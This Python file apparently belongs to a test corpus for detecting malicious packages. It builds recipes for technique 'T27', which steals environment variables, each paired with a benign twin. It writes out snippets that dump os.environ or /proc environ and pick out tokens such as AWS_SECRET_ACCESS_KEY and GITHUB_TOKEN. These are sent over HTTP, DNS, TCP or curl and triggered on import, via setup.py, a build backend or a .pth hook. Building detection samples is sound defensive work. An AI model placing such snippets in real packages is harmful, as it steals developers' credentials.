"""T27: takes the whole environment (MITRE ATT&CK T1082, T1552.007).

The planted variables are among it. The twins do what an error reporter does that scrubs: names
without values, or its own variables only.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import IF_ACT, acting
from tests.corpus.parts import IN_TREE, PACKER, SETUP
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

ALL = '_send(_wrap("\\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()))'
FROM_PROC = '_send(_wrap(pathlib.Path("/proc/self/environ").read_bytes()))'
FROM_ENV = '_send(_wrap(subprocess.run(["env"], capture_output=True).stdout))'
FILTERED = """
found = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}
_send(_wrap(repr(found).encode()))
"""
ONE_BY_ONE = """
for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "PYPI_TOKEN", "OPENAI_API_KEY"):
    _send(_wrap(os.environ.get(name, "").encode()))
"""
OF_PARENT = """
try:
    _send(_wrap(pathlib.Path(f"/proc/{os.getppid()}/environ").read_bytes()))
except OSError:
    _send(_wrap(pathlib.Path("/proc/self/environ").read_bytes()))
"""
SCRUBBED = '_send(_wrap("\\n".join(sorted(os.environ)).encode()))'
OWN_VARIABLE = '[v for k, v in os.environ.items() if k.startswith("THE_MODULE_")]'
FUNCTION = '''
def report():
    """Report what went wrong."""
    if ACT:
        THE_ACT()
'''

NAMES_ONLY = "sends the names of variables and no value"
OWN_ONLY = "reads its own variables"
WAYS = (
    (
        "all-http",
        Phase.IMPORT,
        Channel.HTTP,
        Encoding.PLAIN,
        senders.HTTP,
        ALL,
        OWN_VARIABLE,
        OWN_ONLY,
    ),
    (
        "all-https-json",
        Phase.IMPORT,
        Channel.HTTPS,
        Encoding.JSON,
        senders.HTTPS,
        ALL,
        SCRUBBED,
        NAMES_ONLY,
    ),
    (
        "proc-tcp-gzip",
        Phase.IMPORT,
        Channel.TCP,
        Encoding.GZIP,
        senders.TCP,
        FROM_PROC,
        OWN_VARIABLE,
        OWN_ONLY,
    ),
    (
        "env-command-udp",
        Phase.IMPORT,
        Channel.UDP,
        Encoding.BASE64,
        senders.UDP,
        FROM_ENV,
        OWN_VARIABLE,
        OWN_ONLY,
    ),
    (
        "filtered-xor",
        Phase.IMPORT,
        Channel.TCP,
        Encoding.XOR,
        senders.TCP,
        FILTERED,
        OWN_VARIABLE,
        OWN_ONLY,
    ),
    (
        "one-by-one-dns",
        Phase.IMPORT,
        Channel.DNS,
        Encoding.BASE32,
        senders.DNS,
        ONE_BY_ONE,
        OWN_VARIABLE,
        OWN_ONLY,
    ),
    (
        "parent-curl",
        Phase.IMPORT,
        Channel.PROCESS,
        Encoding.HEX,
        senders.CURL,
        OF_PARENT,
        OWN_VARIABLE,
        OWN_ONLY,
    ),
    (
        "all-in-function",
        Phase.USE,
        Channel.HTTP,
        Encoding.REVERSED,
        senders.HTTP,
        ALL,
        SCRUBBED,
        NAMES_ONLY,
    ),
)

RECIPES = (
    *(
        Recipe(
            technique="T27",
            name=name,
            phase=phase,
            channel=channel,
            encoding=encoding,
            files={
                "THE_MODULE/__init__.py": acting(
                    reenact,
                    honest,
                    FUNCTION if phase is Phase.USE else IF_ACT,
                    sending(sender, encoding),
                )
            },
            twin_does=twin_does,
        )
        for name, phase, channel, encoding, sender, reenact, honest, twin_does in WAYS
    ),
    Recipe(
        technique="T27",
        name="setup-https",
        phase=Phase.INSTALL,
        channel=Channel.HTTPS,
        encoding=Encoding.BASE64,
        kind=Kind.SDIST,
        files={
            "setup.py": acting(
                ALL, OWN_VARIABLE, head=sending(senders.HTTPS_SOCKET, Encoding.BASE64)
            )
            + SETUP,
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does=OWN_ONLY,
    ),
    Recipe(
        technique="T27",
        name="backend-dns",
        phase=Phase.INSTALL,
        channel=Channel.DNS,
        encoding=Encoding.LABELS,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(
                ONE_BY_ONE,
                OWN_VARIABLE,
                head="from packer import build_wheel\n" + sending(senders.DNS, Encoding.LABELS),
            ),
            "src/THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does=OWN_ONLY,
    ),
    Recipe(
        technique="T27",
        name="hook-http",
        phase=Phase.START,
        channel=Channel.HTTP,
        encoding=Encoding.URL,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": acting(
                FILTERED, OWN_VARIABLE, head=sending(senders.HTTP, Encoding.URL)
            ),
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does=OWN_ONLY,
    ),
)
